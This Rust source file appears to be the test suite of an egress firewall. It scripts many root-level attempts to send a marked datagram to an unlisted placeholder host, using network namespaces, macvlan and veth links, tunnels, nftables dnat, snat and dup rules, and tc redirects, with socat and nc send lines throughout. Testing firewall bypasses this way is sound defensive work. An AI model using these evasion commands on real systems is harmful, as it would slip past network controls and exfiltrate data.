//! By what root may add to a host: devices, namespaces, rules of other firewalls.

use crate::attempt::{Act, Attempt, Expected, name};

/// A row whose steps are a shell's. `cleanup` is done whatever happens.
fn row(ipv6: bool, what: &str, steps: &str, cleanup: &str) -> Attempt {
    let (to, name) = (if ipv6 { "2001:db8:bad::9" } else { "203.0.113.9" }, name(ipv6, what));
    let server = if ipv6 { "2001:db8:2::10" } else { "192.0.2.10" };
    let script = format!("trap '{{ {cleanup}; }} >/dev/null 2>&1' EXIT\n{steps}\n")
        // Who sends, from wherever it is: a datagram with the mark.
        .replace("{send}", "printf '{text}' | socat -t0 - UDP{v}:{to}:{port}")
        .replace("{send-tcp}", "timeout 0.5 nc -w1 {to} {port} </dev/null || true")
        .replace("{to}", &if ipv6 { format!("[{to}]") } else { to.to_owned() })
        .replace("{to-bare}", to)
        .replace("{server}", server)
        .replace("{ip}", if ipv6 { "ip -6" } else { "ip" })
        .replace("{v}", if ipv6 { "6" } else { "4" })
        .replace("{family}", if ipv6 { "ip6" } else { "ip" });
    Attempt::out(name, Act::Script(script))
}

/// A namespace of the intruder's own, `$ns` being a process in it.
const NAMESPACE: &str =
    "unshare -n sleep 20 & ns=$!\nsleep 0.05\nenter() { nsenter -t $ns -n \"$@\"; }\nenter ip link set lo up";
const END: &str = "kill $ns";

pub fn all() -> Vec<Attempt> {
    let mut all = Vec::new();
    for ipv6 in [false, true] {
        namespaces(ipv6, &mut all);
        devices(ipv6, &mut all);
        rules(ipv6, &mut all);
        traffic_control(ipv6, &mut all);
    }
    all
}

fn namespaces(ipv6: bool, all: &mut Vec<Attempt>) {
    let (own, gateway, far, length, nodad) = if ipv6 {
        ("2001:db8:2::77", "2001:db8:2::1", "2001:db8:c::", 64, "nodad")
    } else {
        ("192.0.2.77", "192.0.2.1", "198.51.100.192", 28, "")
    };
    let (here, there) = if ipv6 { ("2001:db8:c::1", "2001:db8:c::2") } else { ("198.51.100.193", "198.51.100.194") };
    for mode in ["bridge", "private", "vepa", "passthru"] {
        all.push(row(
            ipv6,
            &format!("namespace with a macvlan ({mode})"),
            &format!(
                "{NAMESPACE}\nip link add esc0 link eth0 type macvlan mode {mode}\nip link set esc0 netns $ns\n\
                 enter {{ip}} address add {own}/{} dev esc0 {nodad}\nenter ip link set esc0 up\n\
                 enter {{ip}} route add default via {gateway}\nsleep 0.1\n\
                 printf '{{text}}' | nsenter -t $ns -n socat -t0 - UDP{{v}}:{{to}}:{{port}}\nsleep 0.2",
                if ipv6 { 64 } else { 24 }
            ),
            &format!("{END}; ip link del esc0"),
        ));
    }
    all.push(row(
        ipv6,
        "namespace with a macvtap's sibling, source mode",
        &format!(
            "{NAMESPACE}\nip link add esc0 link eth0 address 02:00:00:00:07:07 netns $ns type macvlan mode source\n\
             enter {{ip}} address add {own}/{} dev esc0 {nodad}\nenter ip link set esc0 up\n\
             enter {{ip}} neigh add {gateway} lladdr 02:00:00:00:00:01 dev esc0\n\
             enter {{ip}} route add default via {gateway}\n\
             printf '{{text}}' | nsenter -t $ns -n socat -t0 - UDP{{v}}:{{to}}:{{port}}\nsleep 0.1",
            if ipv6 { 64 } else { 24 }
        ),
        END,
    ));
    let routed = format!(
        "{NAMESPACE}\nip link add esc0 type veth peer name esc1 netns $ns\n\
         {{ip}} address add {here}/{length} dev esc0 {nodad}\nip link set esc0 up\n\
         enter {{ip}} address add {there}/{length} dev esc1 {nodad}\nenter ip link set esc1 up\n\
         enter {{ip}} route add default via {here}\n\
         echo 1 > /proc/sys/net/{}\n",
        if ipv6 { "ipv6/conf/all/forwarding" } else { "ipv4/ip_forward" }
    );
    let stop =
        if ipv6 { "echo 0 > /proc/sys/net/ipv6/conf/all/forwarding" } else { "echo 0 > /proc/sys/net/ipv4/ip_forward" };
    let inner = "sleep 0.1\nprintf '{text}' | nsenter -t $ns -n socat -t0 - UDP{v}:{to}:{port}\nsleep 0.1";
    all.push(row(ipv6, "namespace, routed", &format!("{routed}{inner}"), &format!("{END}; ip link del esc0; {stop}")));
    let nat = format!(
        "nft 'add table {{family}} esc; add chain {{family}} esc post {{ type nat hook postrouting priority 100; }}; \
         add rule {{family}} esc post {{family}} saddr {far}/{length} masquerade'\n"
    );
    all.push(row(
        ipv6,
        "namespace, routed and masqueraded",
        &format!("{routed}{nat}{inner}"),
        &format!("{END}; ip link del esc0; nft delete table {{family}} esc; {stop}"),
    ));
    all.push(row(
        ipv6,
        "namespace, with our second link moved into it",
        &format!(
            "{NAMESPACE}\nip link set eth1 netns $ns\nenter {{ip}} address add {}/{} dev eth1 {nodad}\n\
             enter ip link set eth1 up\nsleep 0.1\n\
             printf '{{text}}' | nsenter -t $ns -n socat -t0 - UDP{{v}}:{}:{{port}}\nsleep 0.1",
            if ipv6 { "2001:db8:b::129" } else { "198.51.100.129" },
            if ipv6 { 64 } else { 25 },
            if ipv6 { "[2001:db8:b::130]" } else { "198.51.100.130" },
        ),
        "enter ip link set eth1 netns $$; kill $ns; \
         ip address add 198.51.100.129/25 dev eth1; ip -6 address add 2001:db8:b::129/64 dev eth1 nodad; ip link set eth1 up",
    ));
    all.push(
        row(
            ipv6,
            "namespace with an ipvlan",
            &format!("{NAMESPACE}\nip link add esc0 link eth0 netns $ns type ipvlan mode l2\n{{send}}"),
            END,
        )
        .expect(Expected::NotHere("no ipvlan")),
    );
}

fn devices(ipv6: bool, all: &mut Vec<Attempt>) {
    let back = if ipv6 {
        ("2001:db8:b::129/64", "[2001:db8:b::130]", "nodad")
    } else {
        ("198.51.100.129/25", "198.51.100.130", "")
    };
    let second = format!("printf '{{text}}' | socat -t0 - UDP{{v}}:{}:{{port}}\nsleep 0.1", back.1);
    all.push(row(
        ipv6,
        "link renamed",
        &format!("ip link set eth1 down\nip link set eth1 name esc1\nip link set esc1 up\n{{ip}} address replace {} dev esc1 {}\nsleep 1.2\n{{ip}} neigh replace {} lladdr 02:00:00:00:00:21 dev esc1\n{second}", back.0, back.2, back.1.trim_matches(['[', ']'])),
        "ip link set esc1 down; ip link set esc1 name eth1; ip link set eth1 up; ip -6 address replace 2001:db8:b::129/64 dev eth1 nodad",
    ));
    all.push(row(
        ipv6,
        "link enslaved to a bridge",
        &format!(
            "ip link add escbr type bridge mcast_snooping 0\nip link set eth1 master escbr\n\
             {{ip}} address del {0} dev eth1\n{{ip}} address add {0} dev escbr {1}\nip link set escbr up\nsleep 0.2\n{second}",
            back.0, back.2
        ),
        &format!("ip link del escbr; {{ip}} address add {} dev eth1 {}", back.0, back.2),
    ));
    all.push(row(
        ipv6,
        "macvlan beside the link, in the same namespace",
        &format!(
            "ip link add esc0 link eth1 type macvlan mode bridge\n{{ip}} address add {} dev esc0 {}\nip link set esc0 up\n\
             sleep 0.1\nprintf '{{text}}' | socat -t0 - UDP{{v}}:{}:{{port}},so-bindtodevice=esc0\nsleep 0.2",
            if ipv6 { "2001:db8:b::131/64" } else { "198.51.100.131/25" },
            back.2, back.1
        ),
        "ip link del esc0",
    ));
    all.push(row(
        ipv6,
        "tunnel: VXLAN to a host that is not listed",
        "ip link add esc0 type vxlan id 7 remote {to-bare} dstport 8472\nip link set esc0 up\n\
         ip address add 10.9.9.1/24 dev esc0\nip neigh add 10.9.9.2 lladdr 02:00:00:00:09:09 dev esc0\n\
         printf '{text}' | socat -t0 - UDP4:10.9.9.2:{port}\nsleep 0.1",
        "ip link del esc0",
    ));
    for kind in [
        "type ipip remote 203.0.113.9 local 192.0.2.10",
        "type gre remote 203.0.113.9 local 192.0.2.10",
        "type sit remote 203.0.113.9 local 192.0.2.10",
        "link eth0 type vlan id 5",
        "type dummy",
        "type bond",
        "type wireguard",
        "type geneve id 7 remote 203.0.113.9",
        "type team",
        "link eth0 type macsec",
    ] {
        all.push(
            row(
                ipv6,
                &format!("device: {}", kind.split(" remote").next().unwrap_or(kind)),
                &format!("ip link add esc0 {kind}\n{{send}}"),
                "ip link del esc0",
            )
            // Where there is one: `tests/vm/stacked`.
            .expect(Expected::NotHere("no such device")),
        );
    }
    all.push(row(
        ipv6,
        "the route led through a bridge over the link",
        "ip link add esc0 type veth peer name esc1\nip link set esc0 up\nip link set esc1 up\n\
         tc qdisc add dev esc1 clsact\n\
         tc filter add dev esc1 ingress protocol all u32 match u32 0 0 action mirred egress redirect dev eth0\n\
         {ip} route add {to-bare} dev esc0\n{ip} neigh add {to-bare} lladdr 02:00:00:00:00:01 dev esc0\nsleep 0.1\n{send}\nsleep 0.1",
        "ip link del esc0",
    ));
}

/// Rules of nftables, which change what guard judges after or before it does.
fn rules(ipv6: bool, all: &mut Vec<Attempt>) {
    let listed = if ipv6 { "[2001:db8:17::7]" } else { "198.51.100.7" };
    let clean = "nft delete table {family} esc; nft delete table netdev esc";
    let to_listed = format!(
        "printf '{{text}}' | timeout 0.5 socat -t0 - TCP{{v}}:{listed}:443,connect-timeout=0.3 || true\nsleep 0.1"
    );
    all.push(row(
        ipv6,
        "nft: a listed session led to another host (dnat)",
        &format!(
            "nft 'add table {{family}} esc; add chain {{family}} esc out {{ type nat hook output priority -100; }}; \
                 add rule {{family}} esc out {{family}} daddr {} tcp dport 443 dnat to {{to-bare}}'\n{to_listed}",
            listed.trim_matches(['[', ']'])
        ),
        clean,
    ));
    all.push(row(
        ipv6,
        "nft: the source rewritten (snat)",
        "nft 'add table {family} esc; add chain {family} esc post { type nat hook postrouting priority 100; }; \
         add rule {family} esc post udp dport {port} snat to {server}'\n{send}\nsleep 0.1",
        clean,
    ));
    all.push(row(
        ipv6,
        "nft: the destination rewritten after the routing",
        &format!(
            "nft 'add table {{family}} esc; add chain {{family}} esc post {{ type filter hook postrouting priority 300; }}; \
             add rule {{family}} esc post {{family}} daddr {0} tcp dport 443 {{family}} daddr set {{to-bare}}'\n\
             timeout 0.5 socat -t0 - TCP{{v}}:{listed}:443,sourceport={{port}},connect-timeout=0.3 </dev/null || true\nsleep 0.1",
            listed.trim_matches(['[', ']'])
        ),
        clean,
    )
    .sign(crate::mark::Sign::Port));
    all.push(row(
        ipv6,
        "nft: a copy to another (dup)",
        "nft 'add table {family} esc; add chain {family} esc out { type filter hook output priority 0; }; \
         add rule {family} esc out udp dport {port} dup to {to-bare}'\n\
         printf '{text}' | socat -t0 - UDP{v}:{to}:{port}\nsleep 0.1",
        clean,
    ));
    all.push(row(
        ipv6,
        "nft: forwarded from a device's ingress (fwd)",
        "ip link add esc0 type veth peer name esc1\nip link set esc0 up\nip link set esc1 up\n\
         nft 'add table netdev esc; add chain netdev esc in { type filter hook ingress device esc1 priority 0; }; \
         add rule netdev esc in fwd to eth0'\n\
         {ip} route add {to-bare} dev esc0\n{ip} neigh add {to-bare} lladdr 02:00:00:00:00:01 dev esc0\nsleep 0.1\n{send}\nsleep 0.1",
        &format!("ip link del esc0; {clean}"),
    ));
}

fn traffic_control(ipv6: bool, all: &mut Vec<Attempt>) {
    for (action, what) in [("redirect", "redirected"), ("mirror", "mirrored")] {
        all.push(row(
            ipv6,
            &format!("tc: {what} from another device's egress"),
            &format!(
                "ip link add esc0 type veth peer name esc1\nip link set esc0 up\nip link set esc1 up\ntc qdisc add dev esc0 clsact\n\
                 tc filter add dev esc0 egress protocol all u32 match u32 0 0 action mirred egress {action} dev eth0\n\
                 {{ip}} route add {{to-bare}} dev esc0\n{{ip}} neigh add {{to-bare}} lladdr 02:00:00:00:00:01 dev esc0\nsleep 0.1\n{{send}}\nsleep 0.1"
            ),
            "ip link del esc0",
        ));
    }
    all.push(row(
        ipv6,
        "tc: redirected on the link itself, to the other link",
        "tc qdisc add dev eth0 clsact || true\n\
         tc filter add dev eth0 egress pref 1 protocol all u32 match u32 0 0 action mirred egress redirect dev eth1\n{send}\nsleep 0.1",
        "tc qdisc del dev eth0 clsact",
    ));
    all.push(row(
        ipv6,
        "tc: a filter that accepts everything, on the link",
        "tc qdisc add dev eth0 clsact || true\n\
         tc filter add dev eth0 egress pref 1 protocol all u32 match u32 0 0 flowid 1:1\n{send}\nsleep 0.1",
        "tc qdisc del dev eth0 clsact",
    ));
    all.push(row(
        ipv6,
        "tc: led over an ifb device",
        "ip link add esc0 type ifb\nip link set esc0 up\nip link add esc1 type veth peer name esc2\nip link set esc1 up\nip link set esc2 up\n\
         tc qdisc add dev esc1 clsact\n\
         tc filter add dev esc1 egress protocol all u32 match u32 0 0 action mirred egress redirect dev eth0\n\
         {ip} route add {to-bare} dev esc1\n{ip} neigh add {to-bare} lladdr 02:00:00:00:00:01 dev esc1\nsleep 0.1\n{send}\nsleep 0.1",
        "ip link del esc0; ip link del esc1",
    ));
}
